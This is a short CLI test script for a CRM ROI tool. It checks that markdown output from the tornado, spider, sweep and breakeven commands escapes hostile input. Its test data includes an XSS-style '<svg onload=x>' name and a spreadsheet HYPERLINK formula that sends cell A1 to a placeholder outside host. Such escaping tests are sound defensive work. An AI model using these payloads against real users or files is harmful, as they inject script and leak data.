# Markdown of tornado, spider, sweep (one-way and two-way) and breakeven:
# the title, and the names in the notes and tables (a line called
# <svg onload=x>, one with an &) are escaped, the break-even's Meaning too.
d=tests/cli/data/hostile
$CRMROI tornado -f markdown --pct 10 $d/scenario.csv
$CRMROI spider -f markdown $d/scenario.csv
$CRMROI sweep -f markdown --vary '<svg onload=x>=60000:80000:10000' $d/scenario.csv
$CRMROI sweep -f markdown --vary '<svg onload=x>=60000:80000:10000' --vary seats=80:120:40 $d/scenario.csv
$CRMROI breakeven -f markdown --input '=HYPERLINK("http://e/"&A1)' $d/scenario.csv
